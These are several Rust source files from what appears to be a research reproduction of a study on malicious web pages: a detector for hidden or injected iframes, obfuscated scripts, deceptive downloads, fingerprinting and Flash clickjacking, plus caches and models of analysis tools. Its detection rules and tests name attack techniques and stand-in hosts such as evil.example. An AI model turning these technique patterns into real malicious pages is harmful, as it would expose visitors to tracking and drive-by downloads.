    /// Pop-ups opened during execution.
    pub popups: u32,
    /// Generic malware marker (signature corpus match without
    /// structural category).
    pub generic_malware_marker: bool,
    /// Google Analytics bootstrap pattern (benign, FP-prone).
    pub ga_bootstrap: bool,
    /// OAuth postmessage-relay iframe pattern (benign, FP-prone).
    pub oauth_relay_iframe: bool,
}

impl Features {
    /// Extracts features from raw page content (the uploaded-file scan
    /// path: no subresources available) with the default JS engine.
    pub fn from_content(url: &Url, html: &str) -> Features {
        Self::from_content_with_engine(url, html, JsEngine::default(), None).0
    }

    /// Like [`Features::from_content`], but with an explicit JS engine
    /// and optional compiled-module cache, returning the sandbox report
    /// alongside the features (so the pipeline can tally `js.vm.*`
    /// execution counters). The report is [`SandboxReport::default`]
    /// when the content carries no inline scripts.
    pub fn from_content_with_engine(
        url: &Url,
        html: &str,
        engine: JsEngine,
        store: Option<Arc<dyn ModuleStore>>,
    ) -> (Features, SandboxReport) {
        let dom = Document::parse(html);
        let mut f = Features::default();
        f.static_pass(&dom, html);
        // Dynamic pass over inline scripts only.
        let mut report = SandboxReport::default();
        let program = dom.inline_scripts().join("\n;\n");
        if !program.trim().is_empty() {
            let mut sandbox =
                Sandbox::new().with_location(url.to_string()).with_engine(engine);
            if let Some(store) = store {
                sandbox = sandbox.with_module_store(store);
            }
            report = sandbox.run(&program);
            f.fold_effects(&report.effects, url);
            f.eval_layers = f.eval_layers.max(report.max_eval_depth);
            if !report.written_html.is_empty() {
                let injected = Document::parse(&report.written_html);
                f.fold_injected_dom(&injected);
            }
        }
        (f, report)
    }

    /// Extracts features from a full browser load (the URL-scan path —
    /// includes external scripts, Flash, and the redirect chain).
    pub fn from_load(load: &LoadResult) -> Features {
        let mut f = Features::default();
        if let (Some(dom), Some(html)) = (&load.dom, &load.html) {
            f.static_pass(dom, html);
        }
        f.fold_effects(&load.js.effects, &load.final_url);
        f.eval_layers = f.eval_layers.max(load.js.max_eval_depth);
        if let Some(injected) = &load.injected_dom {
            f.fold_injected_dom(injected);
        }
        for movie in &load.swf_movies {
            if movie.is_clickjack() {
                f.flash_clickjack = true;
            }
        }
        f.popups += load.popups.len() as u32;
        if load
            .downloads
            .iter()
            .any(|d| d.filename.to_ascii_lowercase().contains("flash") || d.filename.ends_with(".exe"))
        {
            f.deceptive_download = true;
        }
        if load.chain.iter().any(|h| h.kind == slum_browser::RedirectKind::JsLocation) {
            f.js_redirect = true;
        }
        f
    }

    /// Static DOM + script-text analysis.
    fn static_pass(&mut self, dom: &Document, html: &str) {
        for id in dom.iframes() {
            let reasons = dom.effective_hidden_reasons(id);
            let src = dom
                .element(id)
                .and_then(|el| el.attr("src"))
                .unwrap_or_default()
                .to_string();
            let is_oauth = src.contains("oauth2/postmessageRelay") || src.contains("postmessageRelay");
            if is_oauth {
                self.oauth_relay_iframe = true;
            }
            for r in reasons {
                self.hidden_iframes.push((r, src.clone()));
                if src.contains('?') && src.contains('&') {
                    self.iframe_exfil_query = true;
                }
            }
        }
        for script in dom.inline_scripts() {
            if is_likely_obfuscated(&script) {
                self.obfuscated_scripts += 1;
                let (_, layers) = unpack_all_static(&script);
                self.eval_layers = self.eval_layers.max(layers);
            }
            if script.contains("GoogleAnalyticsObject") {
                self.ga_bootstrap = true;
            }
            if script.contains("mousemove") || script.contains("keydown") {
                // Listener + beacon shipping = fingerprinting; bare
                // listeners alone are common and benign.
                if script.contains("createElement") || script.contains("/fp?") {
                    self.fingerprinting = true;
                }
            }
        }
        if !dom.data_uri_anchors().is_empty() || !dom.download_manager_elements().is_empty() {
            self.deceptive_download = true;
        }
        if dom.meta_refresh_target().is_some() {
            self.meta_refresh = true;
        }
        // Flash click-jack rig: object/embed with transparent wmode and
        // allowscriptaccess. Parameters live in <param> children.
        for obj in dom.elements_by_tag("object").into_iter().chain(dom.elements_by_tag("embed")) {
            let subtree: Vec<_> = dom.descendants(obj);
            let mut transparent = false;
            let mut script_access = false;
            for id in subtree {
                if let Some(el) = dom.element(id) {
                    let name = el.attr("name").unwrap_or_default();
                    let value = el.attr("value").unwrap_or_default();
                    if name.eq_ignore_ascii_case("wmode") && value.eq_ignore_ascii_case("transparent")
                    {
                        transparent = true;
                    }
                    if name.eq_ignore_ascii_case("allowscriptaccess")
                        && value.eq_ignore_ascii_case("always")
                    {
                        script_access = true;
                    }
                }
            }
            let covers_page = dom
                .element(obj)
                .and_then(|el| el.attr("width"))
                .is_some_and(|w| w == "100%");
            if script_access && (transparent || covers_page) {
                self.flash_clickjack = true;
            }
        }
        if html.contains("slum:payload:") {
            self.generic_malware_marker = true;
        }
    }

    /// Folds in sandbox effects.
    fn fold_effects(&mut self, effects: &[Effect], page_url: &Url) {
        let mut mouse_listener = false;
        let mut beacon_insert = false;
        for effect in effects {
            match effect {
                Effect::DocumentWrite(html)
                    if html.contains("<iframe") => {
                        self.dynamic_iframe_injection = true;
                    }
                Effect::ElementInserted { tag, attrs }
                    if tag == "iframe" => {
                        self.dynamic_iframe_injection = true;
                        beacon_insert = true;
                        let hidden = slum_html::attr::hidden_reasons(attrs);
                        let src = attrs
                            .iter()
                            .find(|(k, _)| k == "src")
                            .map(|(_, v)| v.clone())
                            .unwrap_or_default();
                        for r in hidden {
                            self.hidden_iframes.push((r, src.clone()));
                        }
                    }
                Effect::Navigate { url } => {
                    let lower = url.to_ascii_lowercase();
                    if lower.contains(".exe") || lower.contains("downloadas=") {
                        self.deceptive_download = true;
                    } else if let Ok(target) = Url::parse(url) {
                        if target.host() != page_url.host() {
                            self.js_redirect = true;
                        }
                    }
                }
                Effect::Popup { .. } => self.popups += 1,
                Effect::ExternalCall { .. } => self.external_interface_calls += 1,
                Effect::ListenerRegistered { event, .. }
                    if (event == "mousemove" || event == "keydown") => {
                        mouse_listener = true;
                    }
                Effect::EvalLayer { depth, .. } => {
                    self.eval_layers = self.eval_layers.max(*depth);
                    if *depth > 0 {
                        self.obfuscated_scripts = self.obfuscated_scripts.max(1);
                    }
                }
                _ => {}
            }
        }
        if mouse_listener && beacon_insert {
            self.fingerprinting = true;
        }
    }

    /// Inspects runtime-injected markup.
    fn fold_injected_dom(&mut self, injected: &Document) {
        for id in injected.iframes() {
            self.dynamic_iframe_injection = true;
            let src = injected
                .element(id)
                .and_then(|el| el.attr("src"))
                .unwrap_or_default()
                .to_string();
            for r in injected.effective_hidden_reasons(id) {
                self.hidden_iframes.push((r, src.clone()));
            }
        }
    }

    /// True when no malicious signal at all was extracted (the benign
    /// fast path).
    pub fn is_clean(&self) -> bool {
        self.hidden_iframes.is_empty()
            && !self.dynamic_iframe_injection
            && self.obfuscated_scripts == 0
            && !self.deceptive_download
            && !self.fingerprinting
            && !self.flash_clickjack
            && self.external_interface_calls == 0
            && !self.js_redirect
            && !self.generic_malware_marker
            && self.popups == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_websim::payload;
    use slum_websim::ContentCategory;

    fn u(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn benign_page_is_clean() {
        let html = payload::benign_page("shop.example.com", ContentCategory::Business);
        let f = Features::from_content(&u("http://shop.example.com/"), &html);
        assert!(f.is_clean(), "{f:?}");
        assert!(!f.meta_refresh);
    }

    #[test]
    fn pixel_iframe_detected_statically() {
        let html = payload::pixel_iframe_page("b.example.com", &u("http://trk.example/t"));
        let f = Features::from_content(&u("http://b.example.com/"), &html);
        assert!(f.hidden_iframes.iter().any(|(r, _)| *r == HiddenReason::PixelDimensions));
        assert!(!f.is_clean());
    }

    #[test]
    fn exfil_iframe_flagged_with_query_signal() {
        let html = payload::invisible_exfil_iframe_page("p.example.com", "x.example.com", "id_77");
        let f = Features::from_content(&u("http://p.example.com/"), &html);
        assert!(f.iframe_exfil_query);
        assert!(f
            .hidden_iframes
            .iter()
            .any(|(r, _)| *r == HiddenReason::Transparency || *r == HiddenReason::PixelDimensions));
    }

    #[test]
    fn obfuscated_dynamic_injection_detected_via_execution() {
        let html =
            payload::js_injected_iframe_page("s.example.com", &u("http://evil.example/x"), 2);
        let f = Features::from_content(&u("http://s.example.com/"), &html);
        assert!(f.dynamic_iframe_injection, "{f:?}");
        assert!(f.obfuscated_scripts >= 1);
        assert!(f.eval_layers >= 2);
    }

    #[test]
    fn plain_dynamic_injection_detected() {
        let html =
            payload::js_injected_iframe_page("s.example.com", &u("http://evil.example/x"), 0);
        let f = Features::from_content(&u("http://s.example.com/"), &html);
        assert!(f.dynamic_iframe_injection);
    }

    #[test]
    fn deceptive_download_markup_detected() {
        let html = payload::deceptive_download_page("anime.example.com", "dl.example.net");
        let f = Features::from_content(&u("http://anime.example.com/"), &html);
        assert!(f.deceptive_download);
    }

    #[test]
    fn fingerprinting_detected() {
        let html = payload::fingerprinting_page("cat.example.com", "collector.example.net");
        let f = Features::from_content(&u("http://cat.example.com/"), &html);
        assert!(f.fingerprinting, "{f:?}");
    }

    #[test]
    fn flash_rig_detected_statically() {
        let html = payload::flash_clickjack_page(
            "games.example.com",
            &u("http://cdn.example.net/swf/AdFlash46.swf"),
            &u("http://cdn.example.net/glue.js"),
        );
        let f = Features::from_content(&u("http://games.example.com/"), &html);
        assert!(f.flash_clickjack);
    }

    #[test]
    fn generic_marker_detected() {
        let html = "<html><body><!-- slum:payload:generic-trojan-dropper --></body></html>";
        let f = Features::from_content(&u("http://m.example.com/"), html);
        assert!(f.generic_malware_marker);
        assert!(!f.is_clean());
    }

    #[test]
    fn false_positive_pages_carry_their_telltales() {
        let oauth = payload::google_oauth_relay_page("site.example.com");
        let f = Features::from_content(&u("http://site.example.com/"), &oauth);
        assert!(f.oauth_relay_iframe);
        assert!(!f.hidden_iframes.is_empty(), "structurally a hidden iframe");

        let ga = payload::google_analytics_page("site2.example.com");
        let f2 = Features::from_content(&u("http://site2.example.com/"), &ga);
        assert!(f2.ga_bootstrap);
        assert!(f2.hidden_iframes.is_empty());
    }

    #[test]
    fn meta_refresh_detected() {
        let html = payload::meta_refresh_page(&u("http://next.example/"));
        let f = Features::from_content(&u("http://hop.example/"), &html);
        assert!(f.meta_refresh);
    }

    #[test]
    fn from_load_sees_flash_and_downloads() {
        use slum_browser::Browser;
        use slum_websim::build::WebBuilder;
        use slum_websim::Tld;

        let mut b = WebBuilder::new(60);
        let flash = b.flash_site(Tld::Com, ContentCategory::Entertainment);
        let dl = b.js_site(
            slum_websim::JsAttack::DeceptiveDownload,
            Tld::Com,
            ContentCategory::Entertainment,
            false,
        );
        let web = b.finish();
        let browser = Browser::new(&web);

        let f_flash = Features::from_load(&browser.load(&flash.url));
        assert!(f_flash.flash_clickjack);
        assert!(f_flash.external_interface_calls > 0);
        assert!(f_flash.popups > 0);

        let f_dl = Features::from_load(&browser.load(&dl.url));
        assert!(f_dl.deceptive_download);
    }

    #[test]
    fn rotating_redirector_script_is_js_redirect() {
        use slum_browser::Browser;
        use slum_websim::build::WebBuilder;

        let mut b = WebBuilder::new(61);
        let spec = b.rotating_redirector_site(3, ContentCategory::Advertisement);
        let web = b.finish();
        let load = Browser::new(&web).load(&spec.url);
        let f = Features::from_load(&load);
        assert!(f.js_redirect, "{f:?}");
    }
}
