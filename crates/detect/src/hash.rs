//! Stable hashing used for deterministic pseudo-random detection
//! decisions.
//!
//! Engine and tool models need per-sample randomness (does Bright Cloud
//! detect *this* URL?) that is stable across runs and independent of any
//! RNG state — otherwise re-scanning a URL would flip verdicts. The
//! implementation moved to [`slum_websim::hash`] so substrate-level
//! crates (exchange lifecycles) can share it without depending on the
//! detection stack; this module re-exports it for existing callers.

pub use slum_websim::hash::{chance, fnv1a, fraction};
