//! A sharded concurrent cache for scan-phase memoization.
//!
//! The scan pipeline is data-parallel: many worker threads scan crawl
//! records against the same detection services, and most lookups
//! (URL features, registered domains, blacklist consensus) repeat
//! heavily across records. A single `Mutex<HashMap>` would serialize
//! every lookup; instead the key space is split across a fixed number
//! of shards, each behind its own [`RwLock`], so readers on different
//! shards never contend and even same-shard readers proceed together.
//!
//! On top of the `RwLock` sharding, each shard *publishes* a read-only
//! snapshot of itself through an RCU cell (`crossbeam::rcu::RcuCell`,
//! after the Mola Collections `RcuMap` model): the hot read path is one
//! atomic pointer load plus a `HashMap` probe — no lock at all. The
//! `RwLock`-guarded map stays the source of truth and the write/
//! fallback path; a shard republishes its snapshot whenever the live
//! map has doubled past it, so the total bytes ever copied stay O(2n)
//! and warm read-mostly workloads (host→domain, domain→blacklist) run
//! lock-free after a handful of republishes.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};

use crossbeam::rcu::RcuCell;
use parking_lot::RwLock;

use crate::hash::fnv1a;

/// Number of shards. A power of two so shard selection is a mask; 16
/// keeps contention negligible for the worker counts this workspace
/// targets (typically <= number of cores) without bloating the struct.
const SHARDS: usize = 16;

/// One shard: the authoritative locked map plus its published RCU
/// snapshot (always a subset of `live`, since entries are only ever
/// added between republishes and `clear` resets both).
struct Shard<V> {
    live: RwLock<HashMap<String, V>>,
    snapshot: RcuCell<HashMap<String, V>>,
    /// `live.len()` at the moment `snapshot` was last published.
    published: AtomicU64,
}

impl<V> Shard<V> {
    fn new() -> Self {
        Shard {
            live: RwLock::new(HashMap::new()),
            snapshot: RcuCell::new(HashMap::new()),
            published: AtomicU64::new(0),
        }
    }
}

impl<V: Clone> Shard<V> {
    /// Republishes the snapshot if the live map has doubled past the
    /// published one. Caller must hold the write lock (`live` is the
    /// already-locked map) so publishes are serialized and each
    /// snapshot is a consistent copy.
    fn maybe_republish(&self, live: &HashMap<String, V>) {
        let published = self.published.load(Ordering::Relaxed);
        if live.len() as u64 >= published.saturating_mul(2).max(1) {
            self.snapshot.store(live.clone());
            self.published.store(live.len() as u64, Ordering::Relaxed);
        }
    }
}

/// A concurrent string-keyed cache, sharded by key hash, with a
/// lock-free RCU read path over per-shard published snapshots.
///
/// Values are cloned out on hit, so `V` should be cheap to clone (the
/// pipeline stores small feature vectors, interned domain handles, and
/// bools). All methods take `&self`; the cache is `Sync` whenever
/// `V: Send + Sync`.
pub struct ShardedCache<V> {
    shards: Vec<Shard<V>>,
    /// Total [`ShardedCache::get_or_insert_with`] calls (relaxed; the
    /// count is deterministic because callers issue a fixed lookup
    /// sequence per record regardless of scheduling).
    lookups: AtomicU64,
}

/// Usage statistics of one [`ShardedCache`], read via
/// [`ShardedCache::stats`].
///
/// `hits` is *derived* as `lookups - entries` rather than counted at
/// lookup time: two workers racing on the same cold key may both run
/// the compute closure, so a counted miss total would depend on thread
/// timing, while the number of distinct entries (and the lookup
/// sequence) never does. The derived figure therefore equals the serial
/// hit count for every worker schedule — the property the observability
/// layer pins in tests.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct CacheStats {
    /// Total memoized lookups issued.
    pub lookups: u64,
    /// Distinct keys currently cached (== computations a serial run
    /// would have performed).
    pub entries: u64,
    /// Lookups served without a fresh computation (derived).
    pub hits: u64,
}

impl<V> Default for ShardedCache<V> {
    fn default() -> Self {
        Self::new()
    }
}

impl<V> ShardedCache<V> {
    /// Creates an empty cache.
    pub fn new() -> Self {
        ShardedCache {
            shards: (0..SHARDS).map(|_| Shard::new()).collect(),
            lookups: AtomicU64::new(0),
        }
    }

    fn shard(&self, key: &str) -> &Shard<V> {
        &self.shards[(fnv1a(key.as_bytes()) as usize) & (SHARDS - 1)]
    }

    /// Total number of cached entries (takes every read lock; intended
    /// for tests and diagnostics, not hot paths).
    pub fn len(&self) -> usize {
        self.shards.iter().map(|s| s.live.read().len()).sum()
    }

    /// True when no shard holds an entry.
    pub fn is_empty(&self) -> bool {
        self.shards.iter().all(|s| s.live.read().is_empty())
    }

    /// Drops every cached entry and resets the lookup statistics (used
    /// by benchmarks to measure cold scans without rebuilding the
    /// pipeline).
    ///
    /// Retired snapshots stay on each shard's RCU graveyard until the
    /// cache itself drops — bounded, because republishing only happens
    /// on size doubling.
    pub fn clear(&self) {
        for shard in &self.shards {
            let mut live = shard.live.write();
            live.clear();
            shard.snapshot.store(HashMap::new());
            shard.published.store(0, Ordering::Relaxed);
        }
        self.lookups.store(0, Ordering::Relaxed);
    }

    /// Folds `f` over every cached `(key, value)` pair, shard by shard.
    ///
    /// Each shard's read lock is held only while that shard is visited,
    /// so concurrent inserts may or may not be seen — call this at
    /// phase boundaries (metrics publication, bench reporting) when the
    /// cache is quiescent. Iteration order is unspecified; use an
    /// order-insensitive accumulator.
    pub fn fold<A>(&self, init: A, mut f: impl FnMut(A, &str, &V) -> A) -> A {
        let mut acc = init;
        for shard in &self.shards {
            let live = shard.live.read();
            for (key, value) in live.iter() {
                acc = f(acc, key, value);
            }
        }
        acc
    }

    /// Current usage statistics (takes every read lock for the entry
    /// count; intended for phase-end reporting, not hot paths).
    pub fn stats(&self) -> CacheStats {
        let lookups = self.lookups.load(Ordering::Relaxed);
        let entries = self.len() as u64;
        CacheStats { lookups, entries, hits: lookups.saturating_sub(entries) }
    }
}

impl<V: Clone> ShardedCache<V> {
    /// The cached value for `key`, if present.
    ///
    /// Served lock-free from the published snapshot when possible,
    /// falling back to the locked live map (the snapshot lags inserts
    /// until the next republish).
    pub fn get(&self, key: &str) -> Option<V> {
        let shard = self.shard(key);
        if let Some(hit) = shard.snapshot.load().get(key) {
            return Some(hit.clone());
        }
        shard.live.read().get(key).cloned()
    }

    /// Returns the cached value for `key`, computing and caching it
    /// with `compute` on a miss.
    ///
    /// The fast path is lock-free: one atomic load of the shard's
    /// published snapshot plus a probe. A snapshot miss falls back to
    /// the `RwLock` live map, and only a genuine miss computes.
    ///
    /// `compute` runs *outside* any lock, so it may be expensive (a
    /// scanner page fetch) without stalling other shard users. Two
    /// threads racing on the same cold key may both compute; the first
    /// insertion wins and both observe that value — with deterministic
    /// `compute` the race is invisible in the results. The snapshot is
    /// always a subset of the live map, so both paths agree on every
    /// key they can both serve.
    pub fn get_or_insert_with(&self, key: &str, compute: impl FnOnce() -> V) -> V {
        self.lookups.fetch_add(1, Ordering::Relaxed);
        let shard = self.shard(key);
        if let Some(hit) = shard.snapshot.load().get(key) {
            return hit.clone();
        }
        if let Some(hit) = shard.live.read().get(key) {
            return hit.clone();
        }
        let value = compute();
        let mut live = shard.live.write();
        let value = live.entry(key.to_string()).or_insert(value).clone();
        shard.maybe_republish(&live);
        value
    }
}

// Compile-time Sync audit for everything the parallel scan phase
// shares across worker threads by reference.
const _: () = {
    const fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<ShardedCache<bool>>();
    assert_send_sync::<ShardedCache<String>>();
    assert_send_sync::<crate::Features>();
    assert_send_sync::<crate::BlacklistDb>();
    assert_send_sync::<crate::EngineModel>();
    assert_send_sync::<crate::VirusTotal<'static>>();
    assert_send_sync::<crate::Quttera<'static>>();
};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn computes_once_then_hits() {
        let cache = ShardedCache::new();
        let mut calls = 0;
        let v = cache.get_or_insert_with("k", || {
            calls += 1;
            41
        });
        assert_eq!((v, calls), (41, 1));
        let v = cache.get_or_insert_with("k", || unreachable!("must hit"));
        assert_eq!(v, 41);
        assert_eq!(cache.get("k"), Some(41));
        assert_eq!(cache.get("absent"), None);
    }

    #[test]
    fn len_and_clear_span_all_shards() {
        let cache = ShardedCache::new();
        for i in 0..100 {
            cache.get_or_insert_with(&format!("key-{i}"), || i);
        }
        assert_eq!(cache.len(), 100);
        assert!(!cache.is_empty());
        cache.clear();
        assert_eq!(cache.len(), 0);
        assert!(cache.is_empty());
    }

    #[test]
    fn stats_derive_hits_from_lookups_and_entries() {
        let cache = ShardedCache::new();
        assert_eq!(cache.stats(), CacheStats::default());
        for _ in 0..3 {
            cache.get_or_insert_with("a", || 1);
        }
        cache.get_or_insert_with("b", || 2);
        let stats = cache.stats();
        assert_eq!(stats, CacheStats { lookups: 4, entries: 2, hits: 2 });
        cache.clear();
        assert_eq!(cache.stats(), CacheStats::default());
    }

    #[test]
    fn snapshot_republish_keeps_serving_after_growth() {
        let cache = ShardedCache::new();
        // Grow well past several doublings so every shard has published
        // at least once, then verify both read paths agree everywhere.
        for i in 0..500 {
            cache.get_or_insert_with(&format!("key-{i}"), || i);
        }
        for i in 0..500 {
            let key = format!("key-{i}");
            assert_eq!(cache.get(&key), Some(i));
            assert_eq!(cache.get_or_insert_with(&key, || unreachable!("must hit")), i);
        }
        assert_eq!(cache.len(), 500);
        let stats = cache.stats();
        assert_eq!(stats.lookups, 1000);
        assert_eq!(stats.entries, 500);
        assert_eq!(stats.hits, 500);
    }

    #[test]
    fn clear_resets_snapshots_too() {
        let cache = ShardedCache::new();
        for i in 0..64 {
            cache.get_or_insert_with(&format!("k{i}"), || i);
        }
        cache.clear();
        assert!(cache.is_empty());
        // A snapshot surviving clear() would wrongly serve stale hits.
        assert_eq!(cache.get("k0"), None);
        assert_eq!(cache.get_or_insert_with("k0", || 99), 99);
    }

    #[test]
    fn first_insert_wins_under_racing_writers() {
        let cache = std::sync::Arc::new(ShardedCache::new());
        let winners: Vec<u64> = std::thread::scope(|scope| {
            (0..8u64)
                .map(|i| {
                    let cache = std::sync::Arc::clone(&cache);
                    scope.spawn(move || cache.get_or_insert_with("contested", || i))
                })
                .collect::<Vec<_>>()
                .into_iter()
                .map(|h| h.join().expect("no panic"))
                .collect()
        });
        let first = winners[0];
        assert!(winners.iter().all(|w| *w == first), "all threads must agree: {winners:?}");
        assert_eq!(cache.get("contested"), Some(first));
    }
}
