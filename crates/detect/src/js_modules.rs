//! Compiled-JS module cache shared across scan workers.
//!
//! Traffic-exchange campaigns reuse packed payloads across thousands of
//! pages (§IV of the paper groups them into campaigns precisely because
//! the *same* obfuscated script shows up under many URLs). The bytecode
//! engine in `slum-js` therefore keys compiled [`Module`]s by a content
//! hash of the source, so a payload seen on page one compiles once and
//! every later page — and every `eval` layer inside it — executes the
//! cached bytecode.
//!
//! [`JsModuleCache`] is the concrete [`ModuleStore`] the pipeline hands
//! to each sandbox: a [`ShardedCache`] keyed by the zero-padded hex
//! source hash, so the module cache inherits the scan cache's lock-free
//! read path, first-insert-wins race semantics, and deterministic
//! [`CacheStats`] across worker counts.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use slum_js::{Module, ModuleStore};

use crate::cache::{CacheStats, ShardedCache};

/// A concurrent [`ModuleStore`] backed by a [`ShardedCache`].
///
/// Keys are the `slum_js::source_hash` of the script source, formatted
/// as 16 hex digits so every key is the same length and shard selection
/// stays uniform. Values are `Arc<Module>`, cheap to clone out on the
/// hot path.
#[derive(Default)]
pub struct JsModuleCache {
    modules: ShardedCache<Arc<Module>>,
    /// Warm hits served by [`ModuleStore::get`]. The VM probes `get`
    /// first and only falls through to `get_or_compile` on a miss, so
    /// one logical lookup is either a `get` hit (counted here) or a
    /// `get_or_compile` call (counted by the inner cache) — never both.
    /// The sum is therefore schedule-independent: a racing pair of
    /// workers that both miss `get` produce two inner lookups and one
    /// entry, exactly matching the serial lookup+hit totals.
    get_hits: AtomicU64,
}

impl JsModuleCache {
    /// Creates an empty module cache.
    pub fn new() -> Self {
        JsModuleCache { modules: ShardedCache::new(), get_hits: AtomicU64::new(0) }
    }

    /// Number of distinct compiled modules currently cached.
    pub fn len(&self) -> usize {
        self.modules.len()
    }

    /// True when nothing has been compiled yet.
    pub fn is_empty(&self) -> bool {
        self.modules.is_empty()
    }

    /// Lookup/entry/hit statistics. `entries` equals the number of
    /// compilations a serial run would perform, so `hits` is
    /// deterministic for every worker count (see [`CacheStats`]).
    pub fn stats(&self) -> CacheStats {
        let inner = self.modules.stats();
        let get_hits = self.get_hits.load(Ordering::Relaxed);
        CacheStats {
            lookups: inner.lookups + get_hits,
            entries: inner.entries,
            hits: inner.hits + get_hits,
        }
    }

    /// Total wall-clock nanoseconds spent compiling every cached
    /// module. Wall-clock, so only suitable for throughput reporting —
    /// never for verdict-determining data.
    pub fn total_compile_nanos(&self) -> u64 {
        self.modules.fold(0u64, |acc, _key, module| acc.saturating_add(module.compile_nanos))
    }

    /// Total bytecode instructions across all cached modules (a size
    /// proxy for the cache footprint).
    pub fn total_instructions(&self) -> u64 {
        self.modules.fold(0u64, |acc, _key, module| {
            acc + module.chunks.iter().map(|c| c.code.len() as u64).sum::<u64>()
        })
    }

    /// Drops every compiled module and resets lookup statistics (cold
    /// benchmark runs).
    pub fn clear(&self) {
        self.modules.clear();
        self.get_hits.store(0, Ordering::Relaxed);
    }

    fn key(hash: u64) -> String {
        format!("{hash:016x}")
    }
}

impl std::fmt::Debug for JsModuleCache {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let stats = self.stats();
        f.debug_struct("JsModuleCache")
            .field("modules", &stats.entries)
            .field("lookups", &stats.lookups)
            .finish()
    }
}

impl ModuleStore for JsModuleCache {
    fn get(&self, key: u64) -> Option<Arc<Module>> {
        let hit = self.modules.get(&Self::key(key));
        if hit.is_some() {
            self.get_hits.fetch_add(1, Ordering::Relaxed);
        }
        hit
    }

    fn get_or_compile(
        &self,
        key: u64,
        compile: &mut dyn FnMut() -> Arc<Module>,
    ) -> Arc<Module> {
        self.modules.get_or_insert_with(&Self::key(key), || compile())
    }
}

// The scan phase shares one JsModuleCache across worker threads.
const _: () = {
    const fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<JsModuleCache>();
};

#[cfg(test)]
mod tests {
    use super::*;
    use slum_js::sandbox::Sandbox;
    use slum_js::source_hash;

    #[test]
    fn compiles_once_per_distinct_source() {
        let cache = JsModuleCache::new();
        let src = "var a = 1; alert(a);";
        let key = source_hash(src);

        assert!(cache.get(key).is_none());
        let mut compiles = 0;
        let mut make = || {
            compiles += 1;
            slum_js::compile::compile_program(
                &slum_js::parse_program(src).expect("valid source"),
                key,
            )
        };
        let first = cache.get_or_compile(key, &mut make);
        let second = cache.get_or_compile(key, &mut make);
        assert_eq!(compiles, 1);
        assert!(Arc::ptr_eq(&first, &second));
        assert_eq!(cache.len(), 1);
        assert_eq!(cache.stats().hits, 1);
    }

    #[test]
    fn sandbox_populates_shared_cache() {
        let cache = Arc::new(JsModuleCache::new());
        let store: Arc<dyn ModuleStore> = cache.clone();

        let report = Sandbox::new()
            .with_module_store(store.clone())
            .run("document.write('<b>hi</b>');");
        assert!(report.errors.is_empty());
        assert_eq!(cache.len(), 1);
        assert!(cache.total_compile_nanos() > 0 || cache.total_instructions() > 0);

        // Same payload from a "different page": pure cache hit.
        let again = Sandbox::new().with_module_store(store).run("document.write('<b>hi</b>');");
        assert!(again.errors.is_empty());
        assert_eq!(cache.len(), 1);
        assert_eq!(cache.stats().hits, 1);

        cache.clear();
        assert!(cache.is_empty());
        assert_eq!(cache.stats(), CacheStats::default());
    }

    #[test]
    fn fold_sums_over_all_shards() {
        let cache = ShardedCache::new();
        for i in 0..100u64 {
            cache.get_or_insert_with(&format!("k{i}"), || i);
        }
        let sum = cache.fold(0u64, |acc, _k, v| acc + v);
        assert_eq!(sum, (0..100).sum::<u64>());
        let count = cache.fold(0usize, |acc, _k, _v| acc + 1);
        assert_eq!(count, 100);
    }
}
