//! Models of the eight third-party analysis tools the study considered.
//!
//! §III-B vets candidate tools on a gold-standard malware set (drawn
//! from the Xing et al. ad-injection corpus) and reports their detection
//! accuracies: Wepawet 0%, AVG Threat Labs 0%, Sender Base 10%,
//! Site Check 40%, Bright Cloud 60%, URLQuery 70%, VirusTotal 100%,
//! Quttera 100%. The two perfect scorers became the study's scanners.
//!
//! The six rejected tools are modelled as fixed-rate detectors (their
//! internals are irrelevant to the reproduction — only their vetting
//! behaviour matters); VirusTotal and Quttera are the real feature-based
//! implementations from this crate.

use slum_websim::{SyntheticWeb, Url};

use crate::hash::chance;
use crate::quttera::Quttera;
use crate::virustotal::VirusTotal;

/// Identity of a candidate tool.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum ToolId {
    /// Wepawet (offline by 2016; detected nothing in the vetting set).
    Wepawet,
    /// AVG Threat Labs.
    AvgThreatLab,
    /// Cisco Sender Base.
    SenderBase,
    /// Sucuri Site Check.
    SiteCheck,
    /// Webroot Bright Cloud.
    BrightCloud,
    /// URLQuery.
    UrlQuery,
    /// VirusTotal (selected).
    VirusTotal,
    /// Quttera (selected).
    Quttera,
}

impl ToolId {
    /// All eight tools, vetting-table order (worst to best).
    pub const ALL: [ToolId; 8] = [
        ToolId::Wepawet,
        ToolId::AvgThreatLab,
        ToolId::SenderBase,
        ToolId::SiteCheck,
        ToolId::BrightCloud,
        ToolId::UrlQuery,
        ToolId::VirusTotal,
        ToolId::Quttera,
    ];

    /// Display name.
    pub fn name(self) -> &'static str {
        match self {
            ToolId::Wepawet => "Wepawet",
            ToolId::AvgThreatLab => "AVG Threat Lab",
            ToolId::SenderBase => "Sender Base",
            ToolId::SiteCheck => "Site Check",
            ToolId::BrightCloud => "Bright Cloud",
            ToolId::UrlQuery => "URLQuery",
            ToolId::VirusTotal => "VirusTotal",
            ToolId::Quttera => "Quttera",
        }
    }

    /// The detection rate the paper measured on its gold standard.
    pub fn paper_accuracy(self) -> f64 {
        match self {
            ToolId::Wepawet | ToolId::AvgThreatLab => 0.0,
            ToolId::SenderBase => 0.10,
            ToolId::SiteCheck => 0.40,
            ToolId::BrightCloud => 0.60,
            ToolId::UrlQuery => 0.70,
            ToolId::VirusTotal | ToolId::Quttera => 1.0,
        }
    }

    /// Whether the study kept the tool after vetting.
    pub fn selected(self) -> bool {
        matches!(self, ToolId::VirusTotal | ToolId::Quttera)
    }
}

/// A scanning facade over all eight tools.
pub struct ToolBench<'w> {
    web: &'w SyntheticWeb,
    virustotal: VirusTotal<'w>,
    quttera: Quttera<'w>,
}

impl<'w> ToolBench<'w> {
    /// Creates the bench bound to the synthetic web.
    pub fn new(web: &'w SyntheticWeb) -> Self {
